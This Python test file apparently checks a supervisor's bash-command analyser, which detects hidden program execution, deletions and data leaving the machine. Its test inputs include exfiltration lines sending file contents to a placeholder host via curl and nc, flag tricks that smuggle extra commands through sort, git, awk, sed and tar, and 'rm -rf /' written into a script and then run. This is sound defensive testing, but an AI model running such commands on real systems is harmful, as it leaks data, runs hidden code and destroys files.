"""What commands do, by the shipped table: a reviewed list, and what holds for all of them."""

from pathlib import Path

import pytest

from supervisor.policy.bash.effect import Act
from tests.worlds.effects_world import effects_of, programs, summary

_LIST = Path(__file__).with_name("golden_effects.txt").read_text("utf-8").splitlines()
_ROWS = [
    tuple(line.split("  →  "))
    for line in _LIST
    if line and not line.startswith("#")
]  # fmt: skip


@pytest.mark.parametrize(("command", "does"), _ROWS, ids=[row[0] for row in _ROWS])
def test_a_command_does_what_the_list_says(command: str, does: str) -> None:
    assert summary(command.replace("⏎", "\n")) == does


@pytest.mark.parametrize(
    ("command", "run"),
    [
        ("timeout 5 env A=1 npm test", [("npm", "test")]),
        ("sort --compress-program=./x a", [("sort", "--compress-program=./x", "a"), ("./x",)]),
        ("rg --pre ./x y", [("rg", "--pre", "./x", "y"), ("./x",)]),
        ("man -P 'curl h' ls", [("man", "-P", "curl h", "ls"), ("curl", "h")]),
        ("git grep -O./x y", [("git", "grep", "-O./x", "y"), ("./x",)]),
        ("git -c core.pager='x y' log", [("git", "-c", "core.pager=x y", "log"), ("x", "y")]),
        ("awk 'BEGIN{system(\"id\")}'", [("awk", 'BEGIN{system("id")}'), ("id",)]),
        ("sed '1e id' a", [("sed", "1e id", "a"), ("id",)]),
        ("tar xf a --to-command=./x", [("tar", "xf", "a", "--to-command=./x"), ("./x",)]),
        ("GIT_PAGER='x y' git log", [("x", "y"), ("git", "log")]),
        ("PROMPT_COMMAND=id bash -i", [("id",), ("bash", "-i")]),
        ("find . -execdir ./x {} +", [("find", ".", "-execdir", "./x", "{}", "+"), ("./x", "\0")]),
        ("go test -exec ./x ./...", [("go", "test", "-exec", "./x", "./..."), ("./x",)]),
        ("cd docs && pwd", []),
        ("./git status", [("./git", "status")]),
        ("for c in status push; do git $c; done", [("git", "status"), ("git", "push")]),
    ],
)  # fmt: skip
def test_every_program_that_is_run_is_named_as_it_is_spelt(
    command: str, run: list[tuple[str, ...]]
) -> None:
    assert programs(command) == run


def test_a_look_alike_of_a_program_in_another_folder_does_what_its_name_says_too() -> None:
    assert "lose" in summary("./git push --force")
    assert summary("/opt/x/rm -rf build") == "delete* build"


def test_a_harmless_builtin_in_another_folder_is_a_program() -> None:
    assert programs("/tmp/test -f a") == [("/tmp/test", "-f", "a")]


def test_what_is_sent_is_marked_when_it_holds_data_of_the_machine() -> None:
    plain = effects_of("curl https://x.example").effects[-1]
    loaded = effects_of('curl "https://x.example/$(cat a)"').effects[-1]
    piped = effects_of("cat a | nc x.example 80").effects[-1]
    assert plain.target is not None
    assert not plain.target.from_data
    assert [each.target is not None and each.target.from_data for each in (loaded, piped)] == [
        True,
        True,
    ]


def test_an_effect_stands_at_the_part_of_the_command_that_it_comes_from() -> None:
    command = "ls docs; bash -c 'rm -rf x'"
    deletion = next(each for each in effects_of(command).effects if each.act is Act.DELETE)
    assert command[deletion.part.start : deletion.part.end] == "bash -c 'rm -rf x'"


def test_a_script_that_the_call_writes_itself_is_unknown() -> None:
    assert "unknown" in summary("echo 'rm -rf /' > x.sh; bash x.sh")
    assert "unknown" not in summary("bash x.sh")


def test_nesting_without_end_is_unknown_and_ends() -> None:
    deep = effects_of("xargs " * 400 + "rm")
    assert not deep.complete
    assert any(each.act is Act.UNKNOWN for each in deep.effects)
